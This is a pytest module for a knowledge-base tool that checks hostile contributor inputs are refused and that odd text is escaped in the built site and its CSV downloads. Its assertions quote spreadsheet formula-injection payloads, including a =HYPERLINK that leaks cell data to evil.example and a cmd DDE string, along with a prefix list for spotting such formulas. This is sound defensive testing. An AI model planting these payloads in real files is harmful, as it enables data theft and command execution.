"""Hostile inputs: every one is refused by `kb check` with the rule it breaks, or shown escaped.

The corpus is tests/hostile/cases.yml and the files beside it. Each case adds its files to
the small sound fact base of conftest.MINIMAL and runs `kb check` in a subprocess, with a
memory cap and a time limit, as a contributor would. A case with `expect` must exit 1,
name that rule on a line pointing into one of its own files, and print no traceback. A
case with `render` holds text that is merely odd (HTML, Markdown, template syntax): it
passes `kb check`, and the site built with it must show the text as text.

Besides files, a case can plant what git or a local checkout can carry and a plain file cannot
say: symbolic links (`links`), hard links (`hardlinks`) and FIFOs, sockets, device files or
folders (`special`). Every case runs beside a folder outside data/ holding a secret: a file
whose lines would pass as a quote of the small base if they were read. No case may make
`kb check` print any of it, in either output format.
"""
from __future__ import annotations

import json
import re
import os
import resource
import socket
import stat
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import pytest
import yaml

import site_fixture
from conftest import MINIMAL, ROOT, write_data
from site_fixture import hostile_site  # noqa: F401  (fixture)

HOSTILE = Path(__file__).resolve().parent / "hostile"
CASES = yaml.safe_load((HOSTILE / "cases.yml").read_text(encoding="utf-8"))
FAILING = [c for c in CASES if "expect" in c]
RENDER = [c for c in CASES if "render" in c]

KB = [sys.executable, "-m", "kb.cli"]
LINE = re.compile(r"^(?P<file>[\w./\\-]+):(?P<line>\d+):(?P<col>\d+): (?P<rule>[a-z0-9-]+): .+$")
GITHUB_LINE = re.compile(r"^::error file=(?P<file>[^,]+),line=\d+,col=\d+,title=(?P<rule>[a-z0-9-]+)::.+$")
# What the folder outside data/ holds: a secret, and lines the small base's quotes would be found in.
SECRET = "SECRET-TOKEN-7f3a9c"
OUTSIDE_TEXT = f"{SECRET}=hunter2\n芯片的延迟为 1.03 秒，对照系统为 1.80 秒，低 1.7 倍。\nHOME=/root\n"
PLANTED = ("links", "hardlinks", "special")
SUMMARY = re.compile(r"^\d+ problem\(s\) found; fix them and run kb check again\.$")
MEMORY_MB = 1024
DEFAULT_SECONDS = 10


def case_files(case: dict, marker: Path) -> dict[str, bytes]:
    """The case's files as bytes, keyed by their path under data/."""
    out = {}
    for rel, name in case.get("files", {}).items():
        raw = (HOSTILE / name).read_bytes()
        if case.get("marker"):
            raw = raw.replace(b"{marker}", str(marker).encode())
        if case.get("pad_to_bytes") and case.get("pad_file", rel) == rel:
            pad = b"# padding to make the file larger than the reader accepts ................\n"
            raw += pad * (case["pad_to_bytes"] // len(pad) + 1)
        if case.get("repeat"):  # a line written many times over, numbered: {n}
            line = case["repeat"]["line"]
            raw += "".join(line.format(n=n) for n in range(case["repeat"]["times"])).encode()
        out[rel] = raw
    return out


def outside(root: Path) -> Path:
    """A folder beside data/, outside it, holding a secret (OUTSIDE_TEXT) and a data file."""
    folder = root / "outside"
    folder.mkdir(exist_ok=True)
    (folder / "secret.txt").write_text(OUTSIDE_TEXT, encoding="utf-8")
    (folder / "secret.yml").write_text(f"leaked:\n  term: {{en: {SECRET}, zh: {SECRET}}}\n"
                                       f"  definition: {{en: {SECRET}, zh: {SECRET}}}\n", encoding="utf-8")
    return folder


def plant(data: Path, case: dict) -> None:
    """Put the case's links, hard links and special files under data/."""
    away = outside(data.parent)
    targets = {"outside": away / "secret.txt", "outside-data-file": away / "secret.yml", "outside-folder": away}
    for rel, target in case.get("links", {}).items():
        path = data / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(targets.get(target, target), path)
    for rel, target in case.get("hardlinks", {}).items():
        path = data / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.link(targets[target], path)
    for rel, what in case.get("special", {}).items():
        path = data / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if what == "fifo":
            os.mkfifo(path)
        elif what == "folder":
            path.mkdir()
            (path / "inside.txt").write_text(OUTSIDE_TEXT, encoding="utf-8")
        elif what == "socket":
            with socket.socket(socket.AF_UNIX) as sock:
                sock.bind(str(path))
        elif what == "device":  # /dev/null's numbers; making a device file takes the right to (root, in CI's containers)
            try:
                os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
            except PermissionError:
                pytest.skip("this machine does not let the tests make a device file (tests/test_files.py reads /dev/null)")
        else:
            raise AssertionError(f"unknown special file {what!r}")


def planted_paths(case: dict) -> set[str]:
    """Every data path a case writes or plants, as kb check prints it (kb.files.shown)."""
    from kb.files import shown

    return {shown(rel) for key in ("files", *PLANTED) for rel in case.get(key, {})}


def kb_check(data: Path, timeout: float, fmt: str = "text") -> tuple[subprocess.CompletedProcess, float]:
    def cap_memory():
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_MB << 20, MEMORY_MB << 20))

    start = time.monotonic()
    out = subprocess.run(KB + ["check", "--format", fmt, str(data)], capture_output=True, text=True, errors="replace",
                         env={"KB_TODAY": "2026-11-29", "PATH": "/usr/bin:/bin"},
                         preexec_fn=cap_memory, timeout=timeout + 20)
    return out, time.monotonic() - start


@pytest.mark.parametrize("case", FAILING, ids=[c["id"] for c in FAILING])
def test_hostile_input_is_refused_with_its_rule(tmp_path, case):
    marker = tmp_path / "pwned"
    data = write_data(tmp_path, case_files(case, marker))
    plant(data, case)
    limit = case.get("max_seconds", DEFAULT_SECONDS)
    out, seconds = kb_check(data, limit)
    text = out.stdout + out.stderr
    shown = f"{case['id']}: {case['what']}\n--- kb check printed:\n{text[-3000:]}"
    assert "Traceback" not in text, shown
    assert out.returncode == 1, shown
    assert seconds < limit, f"{case['id']} took {seconds:.1f} s (limit {limit} s)"
    lines = out.stdout.rstrip("\n").splitlines()
    assert lines and SUMMARY.match(lines[-1]), shown
    assert all(LINE.match(ln) for ln in lines[:-1]), shown
    named = {(m["file"].removeprefix(f"{data}/"), m["rule"]) for m in map(LINE.match, lines[:-1])}
    files = planted_paths(case)
    assert any(rule == case["expect"] and (file in files or any(f.startswith(file + "/") for f in files))
               for file, rule in named), (
        f"expected rule {case['expect']!r} on a line in {sorted(files)}\n{shown}")
    assert not marker.exists(), f"{case['id']}: a YAML tag ran code"
    assert SECRET not in text, f"{case['id']}: kb check printed a file outside data/\n{shown}"
    if any(case.get(key) for key in PLANTED):  # the annotations on a pull request are public too
        out, _ = kb_check(data, limit, "github")
        lines = out.stdout.rstrip("\n").splitlines()
        assert out.returncode == 1 and SECRET not in out.stdout + out.stderr, out.stdout + out.stderr
        assert all(GITHUB_LINE.match(ln) for ln in lines[:-1]), out.stdout
        assert case["expect"] in {m["rule"] for m in map(GITHUB_LINE.match, lines[:-1])}, out.stdout


@pytest.mark.parametrize("case", RENDER, ids=[c["id"] for c in RENDER])
def test_odd_text_passes_kb_check_as_plain_text(tmp_path, case):
    data = write_data(tmp_path, case_files(case, tmp_path / "pwned"))
    out, seconds = kb_check(data, DEFAULT_SECONDS)
    assert out.returncode == 0, f"{case['id']}: {case['what']}\n{out.stdout}{out.stderr}"
    assert "Traceback" not in out.stdout + out.stderr
    assert seconds < DEFAULT_SECONDS


# --- the corpus itself ---------------------------------------------------------------------------

# What the corpus must cover: the rule a kind of hostile input is refused with.
REQUIRED_RULES = {
    "yaml-syntax", "tab-indent", "duplicate-key", "duplicate-id", "unknown-field", "wrong-type",
    "not-a-number", "absurd-magnitude", "full-width-digits", "bad-date", "future-date",
    "unknown-reference", "derivation-cycle", "invalid-utf8", "byte-order-mark", "empty-file",
    "file-too-large", "yaml-tag", "yaml-alias", "url-scheme",
    # what a pull request can carry besides text (tests/hostile/cases.yml, "Files under data/"), and what it can
    # make the site publish: a page of its own in place of the site's, invisible text, a number its quote does not say
    "linked-file", "special-file", "file-name",
    "too-many-records", "too-deep", "invisible-character",
    "reserved-id", "bad-id",
    "bad-url",
    "successor-cycle",
    "translation-figure", "reading-words", "reading-figure",
}


def test_corpus_is_large_and_covers_every_kind_of_hostile_input():
    assert len(FAILING) >= 40, f"only {len(FAILING)} refused cases"
    covered = {c["expect"] for c in FAILING}
    assert REQUIRED_RULES <= covered, f"no case for: {sorted(REQUIRED_RULES - covered)}"
    texts = " ".join(json.dumps(c["render"]) for c in RENDER)
    for needle in ("<script>", "javascript:", "![", "{{ config", "{% include"):
        assert needle in texts, f"no render case with {needle!r}"
    assert any("data:" in (HOSTILE / f).read_text(encoding="utf-8", errors="replace")
               for c in FAILING if c["expect"] == "url-scheme" for f in c["files"].values())


def test_corpus_manifest_and_files_agree():
    ids = Counter(c["id"] for c in CASES)
    assert [i for i, n in ids.items() if n > 1] == []
    used = {name for c in CASES for name in c.get("files", {}).values()}
    on_disk = {p.name for p in HOSTILE.iterdir() if p.name != "cases.yml"}
    assert used - on_disk == set(), "cases name files that do not exist"
    assert on_disk - used == set(), "files no case uses"
    from kb.problems import RULES
    unknown = {c["expect"] for c in FAILING} - set(RULES)
    assert unknown == set(), f"cases expect rules kb does not have: {sorted(unknown)}"
    folders = ("claims", "sources", "entities", "conflicts", "glossary", "units", "metrics", "snapshots", "redirects.yml")
    for c in CASES:
        assert c.get("what"), f"{c['id']} does not say what is hostile about it"
        written = [rel for key in ("files", *PLANTED) for rel in c.get(key, {})]
        assert written, f"{c['id']} adds nothing"
        assert all(rel.split("/")[0].lower() in folders for rel in written), c["id"]
        assert set(written).isdisjoint(MINIMAL), f"{c['id']} would replace a file of the base"


# --- the site built with the odd text -----------------------------------------------------------------

FOLDER_KIND = {"claims": "claim", "sources": "source", "entities": "entity", "conflicts": "conflict"}
# The render cases name the small base's records (chip, gpu, article); the site is built from
# the real data, so those records come along under names that cannot clash with it.
BASE_FOR_RENDER = {
    "entities/hostile-base.yml": "entities/core.yml",
    "sources/hostile-base.yml": "sources/articles.yml",
    "snapshots/article.txt": "snapshots/article.txt",
}


def _render_files(data: Path) -> dict[str, bytes]:
    """The render cases' records, added to the session's hostile build (site_fixture.hostile_site)."""
    added = {}
    for rel, base_rel in BASE_FOR_RENDER.items():
        added[rel] = MINIMAL[base_rel].encode()
    for case in RENDER:
        for rel, raw in case_files(case, data / "pwned").items():
            folder, name = rel.split("/", 1)
            added[f"{folder}/{case['id']}-{name}"] = raw
    return added


site_fixture.HOSTILE_EXTRAS.append(_render_files)


@pytest.fixture(scope="module")
def render_site(hostile_site):
    return hostile_site


def _text(soup) -> str:
    return " ".join(soup.get_text().split())


@pytest.mark.parametrize("case", RENDER, ids=[c["id"] for c in RENDER])
def test_odd_text_reaches_the_site_escaped(render_site, case):
    spec = case["render"]
    folder, ident = spec["record"].split("/")
    urls = [render_site.url(FOLDER_KIND[folder], ident, lang) for lang in ("en", "zh")]
    missing = [u for u in urls if not render_site.exists(u)]
    assert not missing, f"{case['id']}: no page at {missing}"
    texts = [_text(render_site.soup(u)) for u in urls]
    for want in spec["visible"]:
        want = " ".join(want.split())
        assert any(want in t for t in texts), f"{case['id']}: {want!r} is not shown as text on {urls}"
    pages = render_site.html_pages()
    assert len(pages) > 10
    for url in pages:
        html = _without_json_ld(render_site.file(url).read_text(encoding="utf-8"), url)
        for bad in spec["forbidden"]:
            assert bad not in html, f"{case['id']}: {bad!r} reached the HTML of {url} unescaped"


JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


def _without_json_ld(html: str, url: str) -> str:
    """The page without its JSON-LD blocks, once each is shown to be inert data.

    Structured data repeats contributor text inside a script element of type
    application/ld+json, which browsers never run. It is safe as long as it is valid
    JSON and no '<' can close the element early; then its text is data, not markup.
    """
    for body in JSON_LD.findall(html):
        assert "<" not in body, f"{url}: a '<' inside JSON-LD could end the script element"
        json.loads(body)
    return JSON_LD.sub("", html)


# --- the downloads built with the odd text ----------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet reads as the start of a formula (OWASP)


def _csv_rows(site, name: str) -> dict[str, dict]:
    import csv
    import io

    text = (site.root / "data" / name).read_text(encoding="utf-8-sig")
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_the_downloads_show_text_that_looks_like_a_formula_as_text(render_site):
    """claims.csv and sources.csv put an apostrophe before every text a spreadsheet would run as a formula; the
    JSON keeps it as written."""
    claims, sources = _csv_rows(render_site, "claims.csv"), _csv_rows(render_site, "sources.csv")
    formula = claims["hostile-formula"]
    assert formula["statement_en"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
    assert formula["statement_zh"].startswith("'@SUM(")
    assert formula["quote_translation_en"] == "'+cmd|' /C notepad'!A0"
    cites = claims["cites-formula-source"]
    assert cites["statement_en"] == "'\tThe chip exists." and cites["paraphrase_en"] == "'=1+1 says the page."
    source = sources["hostile-formula-source"]
    assert source["name_en"] == '\'=HYPERLINK("https://evil.example/","Open")'
    assert (source["name_zh"], source["title"]) == ("'@一篇来源", "'+可疑标题")
    seen = 0
    for rows in (claims, sources):
        for row in rows.values():
            for cell in row.values():
                seen += 1
                if cell.startswith(FORMULA_START):
                    float(cell.split("..")[0])  # only a number may begin so
    assert seen > 10_000
    records = {c["id"]: c for c in json.loads((render_site.root / "data" / "claims.json").read_text(encoding="utf-8"))}
    assert records["hostile-formula"]["statement"]["en"].startswith("=HYPERLINK(")


# --- no record takes the place of a page the site builds itself ----------------------------------------------

def _record_ids(kb, kind) -> set[str]:
    return set(getattr(kb, kind.data)) | {i for i, r in kb.redirects.items() if r.kind == kind.name}


def test_every_name_the_site_builds_beside_record_pages_is_reserved(render_site):
    """In each language's root and in each folder of record pages, every name that is not a record's is one the
    site builds itself, and kb.paths.reserved lists it: no record can be given it as its id."""
    from kb import kinds, paths
    from kb.languages import LANGUAGES

    reserved = set(paths.reserved())
    kb = render_site.kb
    written = {p.stem if p.is_file() else p.name for p in (render_site.docs / "en").iterdir()} - {"index"}
    seen = 0
    for lang in LANGUAGES:
        top = render_site.root / paths.lang_prefix(lang)
        names = {p.name.split(".")[0] for p in top.iterdir()} - written - {""}
        assert names <= reserved, f"/{paths.lang_prefix(lang)}: {sorted(names - reserved)} are not in kb.paths.reserved"
        seen += len(names)
        for kind in kinds.with_pages():
            folder = top / kind.pages
            names = {p.name.split(".")[0] for p in folder.iterdir()} - _record_ids(kb, kind)
            assert names <= reserved, f"{folder}: {sorted(names - reserved)} are not in kb.paths.reserved"
            seen += len(names)
    assert seen >= 20  # 404, assets, data, pagefind, search, sitemap, the languages, each list page ("index")
    for page in (ROOT / "docs").glob("*/*/*.md"):  # a written page inside a folder of record pages
        assert page.stem in reserved, f"{page}: add {page.stem!r} to kb.paths.reserved"


def test_the_build_stops_where_a_record_would_replace_a_page_of_its_own():
    """Whatever kb.paths.reserved misses, the build refuses a generated page in place of one the site has."""
    import importlib.util
    from types import SimpleNamespace

    spec = importlib.util.spec_from_file_location("kb_site_hooks_hostile", ROOT / "macros" / "hooks.py")
    hooks = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hooks)

    files = [SimpleNamespace(src_uri="en/claims/index.md", url="claims/"),
             SimpleNamespace(src_uri="en/claims/methodology.md", url="claims/methodology/")]
    taken = hooks.pages_taken(files)
    assert "en/claims/index.md" in hooks.in_place_of(taken, "claim", "index", "en")
    assert "en/claims/methodology.md" in hooks.in_place_of(taken, "claim", "methodology", "en")
    assert hooks.in_place_of(taken, "claim", "gptoss-e2e-jalapeno", "en") is None
    assert hooks.in_place_of(taken, "claim", "methodology", "zh") is None  # /zh/claims/ has no such page
